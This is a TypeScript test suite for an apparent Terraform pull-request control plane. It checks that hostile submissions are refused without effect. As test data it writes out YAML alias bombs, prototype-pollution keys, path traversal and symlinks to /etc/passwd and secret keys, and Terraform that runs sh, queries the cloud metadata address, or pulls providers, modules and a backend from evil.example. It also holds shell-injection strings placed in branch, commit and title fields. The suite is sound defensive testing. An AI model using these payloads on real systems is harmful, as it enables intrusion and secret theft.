// A repository whose author means harm: configuration, stacks, links and names, from the signed delivery to the check. Whoever
// may open a pull request may send all of this; none of it may run, be read from elsewhere, or stop the control plane.
import { existsSync } from "node:fs";
import { mkdir, rm, symlink } from "node:fs/promises";
import { dirname, join } from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import { deliver, pullRequestDelivery } from "../../scripts/tour/github-delivery.ts";
import type { Answer } from "../support/caller.ts";
import {
  configurationText,
  createDemoPlatform,
  type DemoPlatform,
  REPOSITORY,
} from "../support/demo-platform.ts";
import { plainTerraform, UNATTENDED_STACK } from "../support/gated-stack.ts";
import { TERRAFORM_MISSING, TERRAFORM_NOTE } from "../support/terraform-found.ts";
import { until } from "../support/until.ts";
import { attacked, expectUnharmed } from "./attacked.ts";

const SETUP_MS = 60_000;
const ATTACK_MS = 60_000;
const door = attacked();
const { at } = door;
const MAIN = "stacks/site/main.tf";

let platform: DemoPlatform;
let numbers = 100;
let trap = "";
beforeAll(async () => {
  const { state, api, url, keys } = at();
  trap = state.path("trapped");
  platform = await createDemoPlatform(
    { state: state.root, api, url: () => url, webhookSecret: keys.webhookSecret },
    configurationText({ stacks: UNATTENDED_STACK }),
    { [MAIN]: plainTerraform("first") },
  );
}, SETUP_MS);

/** Opens a pull request with these files; answers its head. */
async function propose(files: Readonly<Record<string, string>>): Promise<string> {
  numbers += 1;
  return (await platform.openPullRequest(numbers, files)).headSha;
}

/** The checks of a commit, once one of them has ended so. */
const checksWith = (commit: string, conclusion: string): Promise<readonly Answer[]> =>
  until(
    `a check of ${conclusion}`,
    async () => {
      const all = await at().api.list(`/v1/repositories/${REPOSITORY.fullName}/checks?commit=${commit}`);
      return all.some((check) => check["conclusion"] === conclusion) ? all : undefined;
    },
    ATTACK_MS / 2,
  );

/** The pull request is refused in words, nothing ran, and the control plane is well. */
async function expectRefused(commit: string): Promise<string> {
  const said = JSON.stringify(await checksWith(commit, "failure"));
  expect(existsSync(trap)).toBe(false);
  expect(said).not.toMatch(/root:x:0|\.ts:\d+|node_modules/);
  await expectUnharmed(door);
  return said;
}

const bomb = Array.from({ length: 9 }, (_, level) =>
  level === 0 ? "a0: &a0 [x]" : `a${level}: &a${level} [${`*a${level - 1},`.repeat(9)}]`,
).join("\n");
const stack = (directory: string): string =>
  `version: 1\nstacks:\n  - name: site\n    directory: ${JSON.stringify(directory)}\n    approvals: 0\n`;

describe("row 46: a hostile .signalbox.yaml", { timeout: ATTACK_MS }, () => {
  test.each<[string, () => string]>([
    ["with aliases of aliases", () => `version: 1\n${bomb}\n`],
    ["with a circle of anchors", () => "version: 1\na: &a [*a]\n"],
    ["with a merge key", () => "version: 1\nbase: &b {name: x}\nstacks:\n  - <<: *b\n    directory: b\n"],
    [
      "with a tag of a programming language",
      () => `version: 1\nx: !!js/function "function(){require('fs')}"\n`,
    ],
    [
      "with keys of prototypes",
      () => "version: 1\n__proto__: {selfApproval: true}\nconstructor: {prototype: {a: 1}}\n",
    ],
    ["with a doubled key", () => "version: 1\nversion: 1\n"],
    ["of two documents", () => "version: 1\n---\nversion: 1\n"],
    ["with control characters", () => 'version: 1\nx: "\\e[2J\\0\\u202e"\n'],
    ["with raw escapes", () => "version: 1\nx: \u001b[2J\n"],
    ["with words that other versions take for booleans", () => "version: 1\nselfApproval: yes\n"],
    ["of three hundred thousand characters", () => `version: 1\n#${"x".repeat(300_000)}\n`],
    ["a hundred thousand brackets deep", () => "[".repeat(100_000)],
    ["a hundred thousand dashes deep", () => "- ".repeat(100_000)],
    [
      "with ten thousand stacks",
      () =>
        `version: 1\nstacks:\n${Array.from({ length: 6_000 }, (_, n) => `  - {name: s${n}, directory: d}`).join("\n")}\n`,
    ],
    ["that is empty", () => ""],
    ["that is no text", () => "version: 1\nx: \uFFFD\u0000\n"],
  ])("%s is a red check, and nothing else", async (_what, text) => {
    await expectRefused(await propose({ ".signalbox.yaml": text() }));
  });
});

describe("row 48: a stack", { timeout: ATTACK_MS }, () => {
  test.each([
    "../prod",
    "/etc",
    "a/../../b",
    "%2e%2e",
    "-chdir=x",
    "",
    "stacks/site/.git",
    ".terraform",
    "a\\b",
    "x".repeat(4_096),
  ])("in the directory %j is refused", async (directory) => {
    await expectRefused(await propose({ ".signalbox.yaml": stack(directory) }));
  });

  test.each(["../../../etc/passwd", "/etc/passwd", "-var=x=y", "a/../b.tfvars"])(
    "with the variable file %j is refused",
    async (file) => {
      await expectRefused(
        await propose({
          ".signalbox.yaml": `${stack("stacks/site")}    varFiles: [${JSON.stringify(file)}]\n`,
        }),
      );
    },
  );

  test.skipIf(TERRAFORM_MISSING).each<[string, string, string]>([
    ["whose directory is a link", "stacks/site", "../secrets"],
    ["whose file is a link out of the repository", "stacks/site/more.tf", "/etc/passwd"],
    [
      "whose file is a link into the state folder",
      "stacks/site/x.auto.tfvars",
      "../../../../secrets/plan-key",
    ],
    ["whose module is a link", "stacks/site/mod", "/etc"],
  ])(`${TERRAFORM_NOTE}%s is refused`, async (_what, path, target) => {
    const link = join(platform.clone.folder, path);
    await rm(link, { recursive: true, force: true });
    await mkdir(dirname(link), { recursive: true });
    await symlink(target, link);
    await expectRefused(await propose({}));
    await platform.clone.git("checkout", "--quiet", "--force", "main");
    await platform.clone.git("clean", "-fdq");
  });

  test.skipIf(TERRAFORM_MISSING)(`${TERRAFORM_NOTE}with a submodule is refused`, async () => {
    const head = await platform.clone.git("rev-parse", "HEAD");
    await mkdir(join(platform.clone.folder, "stacks/site/sub"), { recursive: true });
    numbers += 1;
    await platform.clone.git("checkout", "--quiet", "-b", `change-${numbers}`);
    await platform.clone.git("update-index", "--add", "--cacheinfo", `160000,${head},stacks/site/sub`);
    await platform.clone.git(
      "-c",
      "user.name=Eve",
      "-c",
      "user.email=eve@example.com",
      "commit",
      "--quiet",
      "-m",
      "Add",
    );
    const headSha = await platform.clone.git("rev-parse", "HEAD");
    await platform.clone.git("push", "--quiet", "origin", `change-${numbers}`);
    await platform.clone.git("checkout", "--quiet", "--force", "main");
    await announce({ headSha, baseSha: head, headRef: `change-${numbers}` });
    await expectRefused(headSha);
  });
});

/** Delivers a pull request whose words are hostile. */
async function announce(said: {
  readonly headSha: string;
  readonly baseSha: string;
  readonly headRef: string;
  readonly title?: string;
  readonly author?: string;
}): Promise<void> {
  const pull = { number: numbers, title: "x", author: "eve", mergeCommitSha: null, merged: false, ...said };
  const delivery = pullRequestDelivery(REPOSITORY, "opened", pull, pull.author);
  expect((await deliver(at().url, at().keys.webhookSecret, delivery)).status).toBe(202);
}

describe.skipIf(TERRAFORM_MISSING)(
  `${TERRAFORM_NOTE}row 65: hostile Terraform`,
  { timeout: ATTACK_MS },
  () => {
    test.each<[string, Readonly<Record<string, string>>]>([
      [
        "that runs a program at the plan",
        { [MAIN]: 'data "external" "x" {\n  program = ["sh", "-c", "touch $TRAP"]\n}\n' },
      ],
      [
        "that asks an address at the plan",
        { [MAIN]: 'data "http" "x" {\n  url = "http://169.254.169.254/"\n}\n' },
      ],
      [
        "that runs a program at the apply",
        {
          [MAIN]:
            'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "touch $TRAP"\n  }\n}\n',
        },
      ],
      [
        "with a provider from elsewhere",
        { [MAIN]: 'terraform {\n  required_providers {\n    x = { source = "evil.example/x/x" }\n  }\n}\n' },
      ],
      [
        "with a module from elsewhere",
        { [MAIN]: 'module "x" {\n  source = "git::https://evil.example/x.git"\n}\n' },
      ],
      [
        "with another backend",
        { [MAIN]: 'terraform {\n  backend "http" {\n    address = "http://evil.example/"\n  }\n}\n' },
      ],
      ["that reads files of the machine", { [MAIN]: 'output "x" {\n  value = file("/etc/passwd")\n}\n' }],
      [
        "that reads what lies above",
        { [MAIN]: 'output "x" {\n  value = file("${path.module}/../../../../../secrets/plan-key")\n}\n' },
      ],
      [
        "in an override file",
        { "stacks/site/override.tf": 'data "external" "x" {\n  program = ["sh"]\n}\n' },
      ],
      ["in a JSON twin", { "stacks/site/main.tf.json": '{"data":{"external":{"x":{"program":["sh"]}}}}' }],
      ["in a test or mock of its own", { "stacks/site/.terraform/modules/modules.json": "{}" }],
      ["with a state of its own", { "stacks/site/terraform.tfstate": '{"version":4}' }],
    ])("%s is refused before it is started", async (_what, files) => {
      const filled = Object.fromEntries(
        Object.entries(files).map(([path, text]) => [path, text.replaceAll("$TRAP", trap)]),
      );
      await expectRefused(await propose(filled));
    });
  },
);

describe("row 50: names that a shell would run", { timeout: ATTACK_MS }, () => {
  test("in a branch, a title, an author and a commit are words and nothing else", async () => {
    const evil = `$(touch ${trap})\`touch ${trap}\`;touch ${trap}|\${{ x }}'"; drop table facts; --`;
    numbers += 1;
    const branch = "change;touch$IFS-trapped`id`";
    const baseSha = await platform.clone.git("rev-parse", "HEAD");
    await platform.clone.git("checkout", "--quiet", "-b", branch);
    await platform.clone.git(
      "-c",
      `user.name=${evil}`,
      "-c",
      "user.email=eve@example.com",
      "commit",
      "--quiet",
      "--allow-empty",
      "-m",
      `${evil}\n\n${evil}`,
    );
    const headSha = await platform.clone.git("rev-parse", "HEAD");
    await platform.clone.git("push", "--quiet", "origin", branch);
    await platform.clone.git("checkout", "--quiet", "main");
    await announce({
      headSha,
      baseSha,
      headRef: branch,
      title: `${evil}\r\nX: 1\u2028\u001b[2J`,
      author: "eve",
    });
    await checksWith(headSha, "success");
    expect(existsSync(trap)).toBe(false);
    await expectUnharmed(door);
  });

  test.each([
    "--output=/tmp/x",
    "../../etc",
    "HEAD",
    "main",
    "refs/heads/main",
    "a".repeat(39),
    `${"a".repeat(40)}\n`,
    "0".repeat(40),
  ])("in place of a commit (%j) reach no command", async (commit) => {
    numbers += 1;
    const before = (await at().adapters.ledger.list({ limit: 1_000, order: "oldest-first" })).facts.filter(
      ({ type }) => type.startsWith("plan."),
    ).length;
    const baseSha = await platform.clone.git("rev-parse", "HEAD");
    await announce({ headSha: commit, baseSha, headRef: "x" });
    await until("everything is settled", async () =>
      (await at().adapters.receipts.list(500)).every(({ outcome }) => outcome !== undefined)
        ? true
        : undefined,
    );
    const after = (await at().adapters.ledger.list({ limit: 1_000, order: "oldest-first" })).facts.filter(
      ({ type }) => type.startsWith("plan."),
    ).length;
    expect(after).toBe(before);
    await expectUnharmed(door);
  });
});
